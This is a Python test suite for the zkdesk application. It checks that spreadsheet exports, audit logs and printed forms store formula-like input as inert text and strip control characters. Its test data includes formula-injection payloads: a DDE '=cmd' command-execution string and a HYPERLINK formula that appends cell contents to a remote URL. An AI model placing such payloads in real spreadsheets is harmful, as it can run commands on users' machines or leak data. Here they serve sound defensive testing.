"""Nothing zkdesk writes to .xlsx carries a live formula, and no control character makes a
workbook unwritable: exports, annotated copies, templates, the audit export and printed forms
all go through output/xlsx_cells.put / write_only."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from tests.importing import dry_run, warnings
from tests.output_helpers import ADMIN, demo_database
from tests.xlsxfiles import write_xlsx
from zkdesk.domain.cell_text import formula_like, strip_control
from zkdesk.domain.uscc import uscc_check_char
from zkdesk.imports.annotate import write_annotated_copy
from zkdesk.imports.pipeline import apply_plan
from zkdesk.output.audit_xlsx import export_audit_xlsx
from zkdesk.output.catalog import load_catalog
from zkdesk.output.printing import PrintRequest, prepare, render_xlsx
from zkdesk.output.xlsx_export import ExportColumn, write_xlsx as export_xlsx
from zkdesk.services import audit
from zkdesk.services.audit_log import AuditFilter
from zkdesk.store.models import Enterprise
from zkdesk.imports.registers import export_register

ROOT = Path(__file__).resolve().parents[2]


def uscc(body: str) -> str:
    return body + uscc_check_char(body)


HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&B2,"点这里")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r\n=2+2",
    " =3+3",
]


def live_formulas(wb) -> list[str]:
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_formula_like_and_control_rules():
    assert all(formula_like(text) for text in HOSTILE)
    assert not any(formula_like(text) for text in ("镇康县=公司", "A-1", "", "１=1"))
    assert strip_control("甲\x00乙\x01丙\x1b[31m丁\t戊\n") == "甲乙丙[31m丁\t戊\n"


def test_export_writes_formula_text_as_text(county_db, tmp_path):
    _db, admin = county_db
    columns = [ExportColumn("内容", "v"), ExportColumn("数", "n", fmt="int")]
    rows = [{"v": text, "n": -5} for text in HOSTILE] + [{"v": "甲\x00乙\x1b[0m", "n": 1}]
    wb = openpyxl.load_workbook(export_xlsx(tmp_path / "x.xlsx", columns, rows, admin, title="=标题", subtitle="+副标题"))
    ws = wb.active
    assert live_formulas(wb) == []
    assert ws["A1"].value == "=标题" and ws["A1"].data_type == "s" and ws["A2"].value == "+副标题"
    written = [ws.cell(row=r, column=1) for r in range(4, 4 + len(HOSTILE))]
    assert [c.data_type for c in written] == ["s"] * len(HOSTILE)
    assert all(c.quotePrefix for c in written)  # Excel keeps them text when the cell is edited
    assert [c.value.lstrip("\r\n") for c in written] == [t.replace("\r\n", "\n").lstrip("\n") for t in HOSTILE]
    assert ws.cell(row=4 + len(HOSTILE), column=1).value == "甲乙[0m"
    assert ws["B4"].value == -5 and ws["B4"].data_type == "n"  # numbers stay numbers


def excel_escaped(text: str) -> str:
    """How Excel stores a control character in the file (_x0001_); calamine reads it back."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)


def _roster(tmp_path) -> Path:
    rows = [["企业名称", "统一社会信用代码", "所属乡镇", "地址", "备注"]]
    for i, text in enumerate(HOSTILE):
        rows.append([f"镇康县{i}号{text.strip()}公司", uscc(f"91530924MA6K8T2C{i}"), "南伞镇", text, text])
    rows.append([excel_escaped("镇康县控制\x01字符\x1b[31m公司"), uscc("91530924MA6K8T2D1"), "南伞镇",
                 excel_escaped("南伞\x00路"), excel_escaped("备\x07注")])
    return write_xlsx(tmp_path / "名册.xlsx", rows, text_columns=(2,))


def test_imported_formulas_and_control_characters_never_come_back_live(county_db, tmp_path):
    db, admin = county_db
    plan = dry_run(db, admin, "enterprises", _roster(tmp_path))
    assert plan.summary.rejected == []
    last = len(HOSTILE) + 2
    assert [w for w in warnings(plan) if w[0] == last] == [
        (last, "企业名称", "单元格中的不可见控制字符已删除，请核对内容"),
        (last, "地址", "单元格中的不可见控制字符已删除，请核对内容"),
        (last, "备注", "单元格中的不可见控制字符已删除，请核对内容"),
    ]
    annotated = openpyxl.load_workbook(write_annotated_copy(plan, tmp_path / "批注.xlsx"))
    assert live_formulas(annotated) == []
    assert annotated.active["D2"].value == HOSTILE[0] and annotated.active["D2"].data_type == "s"
    apply_plan(db, admin, plan)
    with db.session() as s:
        stored = s.scalars(select(Enterprise).where(Enterprise.uscc == uscc("91530924MA6K8T2D1"))).one()
        assert (stored.name, stored.address, stored.note) == ("镇康县控制字符[31m公司", "南伞路", "备注")
        assert export_register(s, admin, "enterprises", tmp_path / "导出.xlsx") == len(HOSTILE) + 1
        audit.record(s, admin.username, "update", "enterprise", "=cmd|' /C calc'!A0", {"name": "\x01=1+1"})
        export_audit_xlsx(s, admin, AuditFilter(), tmp_path / "日志.xlsx")
    exported = openpyxl.load_workbook(tmp_path / "导出.xlsx")
    assert live_formulas(exported) == []
    rows = list(exported.active.iter_rows(values_only=True))
    addresses = {row[rows[0].index("地址")] for row in rows[1:]}
    assert {"=cmd|' /C calc'!A0", "@SUM(1,2)", "南伞路"} <= addresses
    log = openpyxl.load_workbook(tmp_path / "日志.xlsx")
    assert live_formulas(log) == []
    assert "=cmd|' /C calc'!A0" in {v for row in log.active.iter_rows(values_only=True) for v in row}
    # and the export imports back unchanged
    again = dry_run(db, admin, "enterprises", tmp_path / "导出.xlsx")
    assert (again.summary.new, again.summary.updated, again.summary.unchanged) == (0, 0, len(HOSTILE) + 1)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_export_as_text(county_db, tmp_path):
    _db, admin = county_db
    columns = [ExportColumn("内容", "v")]
    export_xlsx(tmp_path / "x.xlsx", columns, [{"v": text} for text in HOSTILE[:5]], admin)
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
         "--outdir", str(tmp_path / "csv"), str(tmp_path / "x.xlsx")],
        capture_output=True, timeout=180,
    )
    assert done.returncode == 0, done.stderr
    lines = (tmp_path / "csv" / "x.csv").read_text(encoding="utf-8").splitlines()
    # a formula would have been calculated (3, 1, 3, an error); text comes out as written
    assert [line.strip('"') for line in lines] == ["内容", *(t.replace('"', '""') for t in HOSTILE[:5])]


def test_printed_xlsx_forms_write_formula_text_as_text(tmp_path):
    db = demo_database(tmp_path)
    try:
        with db.session() as s:
            enterprise = s.scalars(select(Enterprise).where(Enterprise.deleted.is_(False)).order_by(Enterprise.name)).first()
            enterprise.name = "=HYPERLINK(\"http://example.invalid\")\x01"
        for key in ("contract-list", "negotiation-summary"):
            with db.session() as s:
                prepared = prepare(s, ADMIN, load_catalog().get(key), PrintRequest(key, year=2025))
            wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(prepared)))
            assert live_formulas(wb) == []
            texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
            assert any(t.startswith("=HYPERLINK") for t in texts) or key == "negotiation-summary"
    finally:
        db.dispose()


def test_every_xlsx_cell_is_written_by_xlsx_cells():
    """One cell-writing function: no other module puts a value into an openpyxl cell."""
    offenders = []
    for path in (ROOT / "zkdesk").rglob("*.py"):
        if path.name == "xlsx_cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.cell\([^)]*value=|WriteOnlyCell\(|\bcell\.value\s*=", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
